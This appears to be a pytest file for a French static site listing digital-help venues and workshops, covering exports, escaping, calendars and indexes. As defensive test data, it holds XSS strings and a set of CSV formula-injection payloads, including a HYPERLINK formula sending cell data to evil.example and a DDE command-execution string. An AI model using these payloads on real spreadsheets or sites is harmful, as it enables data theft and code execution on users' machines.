"""The built site, read as files: venues, hours, exports, escaping, indexes. Browser checks
(accessibility, no JavaScript, requests) are in test_browser.py."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from pages.csv_cells import FORMULA_STARTS, NUMBER, literal_patterns, neutralise
from pipeline.contracts.venues import VENUES


@pytest.fixture
def site(demo_site) -> Path:
    """The session's demo site, shared read-only (conftest.demo_site)."""
    return demo_site


def read(site: Path, relative: str) -> str:
    return (site / relative).read_text(encoding="utf-8")


def test_venue_page_shows_humanised_hours_links_and_workshops(site):
    html = read(site, "lieux/lieu-91477-01/index.html")
    assert "Médiathèque George Sand" in html
    assert re.search(r"<li>(Du|Le) [a-z]+.* de \d+ h", html)  # hours told in French
    assert re.search(r'href="https://www\.openstreetmap\.org/\?mlat=48\.\d+&amp;mlon=2\.\d+', html)
    assert '<article class="session"' in html  # upcoming workshops held there
    assert "<iframe" not in html and "tile" not in html  # no embedded map


def test_directory_lists_every_venue_by_commune_without_javascript(site):
    html = read(site, "lieux/index.html")
    # 14 + 2 from Orsay's export + 1 hostile + 2 in Igny (one mobile, without coordinates)
    assert html.count("<li class=\"venue-card\"") == 19
    assert '<h2 id="commune-91477">Palaiseau</h2>' in html
    assert 'id="filtres-lieux" hidden' in html  # the filter form only appears with JS


def test_hostile_partner_text_is_escaped_everywhere(site):
    for page in site.rglob("*.html"):
        html = page.read_text(encoding="utf-8")
        assert "<script>alert" not in html, page
        assert "onerror=alert" not in html.replace("onerror=alert(1)&gt;", ""), page
        assert 'href="javascript:' not in html, page
        assert "<b>gras</b>" not in html, page
    venue = read(site, "lieux/lieu-hostile/index.html")
    assert "&lt;script&gt;alert(&#39;nom&#39;)&lt;/script&gt; Médiathèque" in venue
    assert "example.org/&#34;&gt;" not in venue  # the unsafe URL is not linked at all
    workshops = read(site, "ateliers/index.html")
    assert "&lt;a href=javascript:alert(6)&gt;Mairie&lt;/a&gt; **01 69 31 00 00**" in workshops


def test_venue_export_follows_the_national_schema_and_is_formula_safe(site):
    rows = list(csv.DictReader(io.StringIO(read(site, "donnees/lieux.csv"))))
    assert len(rows) == 19  # with the two edge-case venues of Igny
    assert list(rows[0])[:6] == ["id", "pivot", "nom", "commune", "code_postal", "code_insee"]
    assert list(rows[0])[-2:] == ["fiche_acces_libre", "prise_rdv"]
    exported = json.loads(read(site, "donnees/lieux.json"))
    assert exported["version"] == "1.0.2" and len(exported["lieux"]) == 19
    assert neutralise("=HYPERLINK(\"x\")") == "'=HYPERLINK(\"x\")" and neutralise(12.5) == 12.5
    assert_follows_the_venue_contract(rows)
    phones = {row["id"]: row["telephone"] for row in rows}
    assert phones["lieu-hostile"] == "+33169310000"  # as the national schema writes it
    for row in rows:
        assert not any(v.startswith(FORMULA_STARTS) for name, v in row.items()
                       if name not in literal_patterns(VENUES))


def assert_follows_the_venue_contract(rows: list[dict]) -> None:
    """Every filled cell of a typed column matches the contract's pattern for it."""
    patterns = literal_patterns(VENUES)
    assert set(patterns) >= {"telephone", "code_postal", "pivot", "date_maj", "latitude"}
    checked = 0
    for row in rows:
        for name, pattern in patterns.items():
            if row[name]:
                assert pattern.fullmatch(row[name]), (row["id"], name, row[name])
                checked += 1
    assert checked >= len(rows) * 3


MALICIOUS = {"nom": '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
             "adresse": "+cmd|' /C calc'!A0", "complement_adresse": "-2+3",
             "presentation_resume": "@SUM(1)", "structure_parente": "=1+1"}


def test_formula_cells_are_neutralised_in_every_csv_download(data_dir):
    from conftest import REFERENCE_RUN

    from pipeline.ingest.flow import process_files
    from publish.site import publish

    venue = {"id": "lieu-formules", "pivot": "21910477700019", "commune": "Palaiseau",
             "code_postal": "91120", "code_insee": "91477", "latitude": "48.71",
             "longitude": "-2.24", "telephone": "+33180050000", "date_maj": "2026-01-15",
             "services": "Aide aux démarches administratives",
             "modalites_acces": "Se présenter", "itinerance": "Fixe", **MALICIOUS}
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(venue), lineterminator="\n")
    writer.writeheader()
    writer.writerow(venue)
    path = data_dir / "inbox" / "agglo-lieux" / "lieux_formules.csv"
    path.parent.mkdir(parents=True)
    path.write_text(buffer.getvalue(), encoding="utf-8")
    assert process_files([("agglo-lieux", str(path))])[0].status != "rejete"
    build = Path(publish(REFERENCE_RUN).path)

    (row,) = csv.DictReader(io.StringIO(read(build, "donnees/lieux.csv")))
    assert_follows_the_venue_contract([row])
    assert row["telephone"] == "+33180050000" and row["longitude"] == "-2.24"
    for name, value in MALICIOUS.items():
        assert row[name] == "'" + value, name
    downloads = sorted(build.rglob("*.csv"))
    assert len(downloads) > 5
    for download in downloads:
        literals = literal_patterns(VENUES) if download.name == "lieux.csv" else {}
        header, *records = csv.reader(io.StringIO(download.read_text(encoding="utf-8")))
        for record in records:
            for name, cell in zip(header + [""] * len(record), record):
                if cell.startswith(FORMULA_STARTS) and not re.fullmatch(NUMBER, cell):
                    assert name in literals and literals[name].fullmatch(cell), (
                        download.name, name, cell)


def test_indexes_404_and_fingerprinted_assets(site):
    sitemap = read(site, "sitemap.xml")
    assert "<loc>https://numerique-pour-tous.example.org/lieux/lieu-91477-01/</loc>" in sitemap
    assert "Sitemap: https://numerique-pour-tous.example.org/sitemap.xml" in read(site, "robots.txt")
    assert "Page introuvable" in read(site, "404.html")
    home = read(site, "index.html")
    css = re.search(r'href="/theme/css/(site\.[0-9a-f]{10}\.css)"', home)
    assert css and (site / "theme" / "css" / css.group(1)).is_file()
    assert "Content-Security-Policy" in home and "script-src 'self'" in home


def test_partner_guide_and_templates_come_from_the_contracts(site):
    from openpyxl import load_workbook

    from pipeline.contracts.datasets import CONTRACTS

    guide = read(site, "partenaires/index.html")
    for contract in CONTRACTS.values():
        assert f'id="contrat-{contract.dataset}"' in guide
        for column in contract.columns:
            assert f"<code>{column.name}</code>" in guide
        header = read(site, f"partenaires/modeles/{contract.dataset}.csv").lstrip("\ufeff")
        assert header.splitlines()[0].split(";") == contract.column_names
        sheet = load_workbook(site / "partenaires" / "modeles" / f"{contract.dataset}.xlsx").active
        assert [c.value for c in sheet[1]] == contract.column_names
        assert [str(c.value) for c in sheet[2]] == [c.example for c in contract.columns]


def test_templates_are_accepted_as_they_are(data_dir):
    """The example row of each template passes its own contract (and so the guide is right)."""
    from pipeline.check.validation import validate_many
    from pipeline.contracts.datasets import CONTRACTS
    from pipeline.contracts.templates import template_csv
    from pipeline.read.reading import read_partner_file

    for contract in CONTRACTS.values():
        path = data_dir / f"{contract.dataset}.csv"
        path.write_bytes(template_csv(contract))
        read = read_partner_file(path, contract)
        found = validate_many([(read, contract, "partenaire", ["91477", "91377", "91471"])])[0]
        errors = [p for p in found if p.severity == "erreur"]
        assert errors == [], (contract.dataset, errors)


def test_calendar_files_are_valid_icalendar_in_paris_time(site):
    from icalendar import Calendar

    feed = Calendar.from_ical((site / "ateliers" / "calendrier-91477.ics").read_bytes())
    events = [c for c in feed.walk("VEVENT")]
    workshops = read(site, "ateliers/index.html")
    assert len(events) == workshops.count('data-commune="91477" data-theme') > 0
    for event in events:
        assert str(event["DTSTART"].dt.tzinfo) == "Europe/Paris"
        assert event["DTEND"].dt > event["DTSTART"].dt and event["UID"]
    assert feed.walk("VTIMEZONE")[0]["TZID"] == "Europe/Paris"
    single = Calendar.from_ical((site / "ateliers" / "ville-palaiseau-pal-x1" / "atelier.ics").read_bytes())
    (event,) = single.walk("VEVENT")
    assert event["LOCATION"].startswith("<script>alert('lieu')</script> Médiathèque")  # text, not markup
    assert "javascript" in event["DESCRIPTION"] and "<a href" in event["DESCRIPTION"]


def test_workshop_page_and_printable_poster(site):
    page = read(site, "ateliers/ville-palaiseau-pal-x1/index.html")
    assert 'href="/ateliers/ville-palaiseau-pal-x1/atelier.ics"' in page
    poster = read(site, "ateliers/ville-palaiseau-pal-x1/affiche/index.html")
    assert "Inscription obligatoire" in poster and 'src="/ateliers/ville-palaiseau-pal-x1/qr.svg"' in poster
    svg = read(site, "ateliers/ville-palaiseau-pal-x1/qr.svg")
    assert svg.startswith("<svg") and "<script" not in svg
    css = next((site / "theme" / "css").glob("site.*.css")).read_text(encoding="utf-8")
    assert "@page { size: A4" in css


def test_workshops_whose_ids_differ_only_in_case_or_punctuation_get_their_own_pages(data_dir):
    from conftest import REFERENCE_RUN

    from pipeline.ingest.flow import process_files
    from publish.site import publish

    header = ("identifiant_seance;commune;lieu;adresse;date;heure_debut;duree_minutes;"
              "thematique;public;places;inscrits;presents;statut;inscription\n")
    sessions = [("PAL-X1", "01/12/2026", "Prise en main du smartphone"),
                ("pal.x1", "02/12/2026", "Accès aux services en ligne")]
    path = data_dir / "inbox" / "ville-palaiseau" / "ateliers_decembre.csv"
    path.parent.mkdir(parents=True)
    path.write_text(header + "".join(
        f"{key};91477;Médiathèque;1 rue de Paris;{day};10h;60;{topic};Seniors;10;2;;Prévue;"
        "Mairie\n" for key, day, topic in sessions), encoding="utf-8")
    assert process_files([("ville-palaiseau", str(path))])[0].rows_loaded == 2
    build = Path(publish(REFERENCE_RUN).path)

    pages = sorted(build.glob("ateliers/*/index.html"))
    pages = [p for p in pages if p.parent.name != "commune"]
    assert len(pages) == 2 and all(p.parent.name.startswith("ville-palaiseau-pal-x1-")
                                   for p in pages)
    topics = sorted(re.search(r"<h1>(.*?)</h1>", p.read_text(encoding="utf-8")).group(1)
                    for p in pages)
    assert topics == ["Accès aux services en ligne", "Prise en main du smartphone"]
    for page in pages:
        assert (page.parent / "atelier.ics").is_file() and (page.parent / "qr.svg").is_file()
